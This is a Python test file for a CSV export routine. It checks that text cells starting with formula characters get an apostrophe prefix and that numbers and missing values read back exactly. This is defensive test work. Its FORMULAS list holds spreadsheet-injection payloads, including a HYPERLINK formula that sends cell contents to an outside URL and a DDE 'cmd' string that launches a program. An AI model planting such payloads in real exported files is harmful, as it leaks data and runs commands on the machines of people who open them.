"""CSV: read back it is the same table, and no cell of text is a formula."""

from __future__ import annotations

import csv
import io
import math

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from converter.tables.spreadsheet import guard_text, to_csv

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
]  # fmt: skip


def read(content):
    """Return the cells of a CSV by Python's own reader."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def frame_of(values, dtype):
    return pd.DataFrame({"cell": pd.Series(values, dtype=dtype)})


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_disarmed(text):
    assert guard_text(text) == "'" + text
    _, (cell,) = read(to_csv(frame_of([text], "string")))
    assert cell == "'" + text


@pytest.mark.parametrize("text", ["int8", "a=1", "", "a-b", "模型", "1.5", "[1, 8]"])
def test_other_text_stays_as_it_is(text):
    assert guard_text(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n \"a,;|\uff1dé")))
def test_one_apostrophe_away_is_the_original_and_columns_stay_apart(text):
    frame = pd.DataFrame({"a": pd.Series([text], dtype="string"), "b": [0.5]})
    _, (cell, number) = read(to_csv(frame))
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))
    assert not cell.startswith(("\t", "\r", "\n"))
    assert cell.removeprefix("'") == text
    assert number == "0.5"


def test_text_is_quoted_so_that_no_other_separator_cuts_it():
    assert b'"a;=1+1"' in to_csv(frame_of(["a;=1+1"], "string"))


@given(st.floats(allow_nan=False))
def test_numbers_read_back_exactly(value):
    _, (cell,) = read(to_csv(frame_of([value], "float64")))
    assert float(cell) == value
    assert math.copysign(1, float(cell)) == math.copysign(1, value)


def test_numbers_infinities_and_what_is_missing():
    frame = pd.DataFrame(
        {
            "number": [math.inf, -math.inf, math.nan],
            "integer": pd.Series([2**53 + 1, None, -1], dtype="Int64"),
            "flag": pd.Series([True, None, False], dtype="boolean"),
            "text": pd.Series(["a", None, ""], dtype="string"),
        }
    )
    assert read(to_csv(frame))[1:] == [
        ["inf", "9007199254740993", "True", "a"],
        ["-inf", "", "", ""],
        ["", "-1", "False", ""],
    ]
    assert frame["text"].isna().tolist() == [False, True, False]  # the table itself is untouched


def test_pandas_reads_it_back():
    values = np.random.default_rng(0).normal(size=200) * 10.0 ** np.arange(-100, 100)
    again = pd.read_csv(io.BytesIO(to_csv(frame_of(values, "float64"))),
                        float_precision="round_trip")  # fmt: skip
    assert again["cell"].tolist() == values.tolist()


def test_begins_with_the_mark_that_spreadsheets_need_for_utf_8():
    assert to_csv(frame_of(["é"], "string")) == b'\xef\xbb\xbf"cell"\r\n"\xc3\xa9"\r\n'


def test_a_nul_is_replaced():
    assert guard_text("a\0b") == "a\ufffdb"
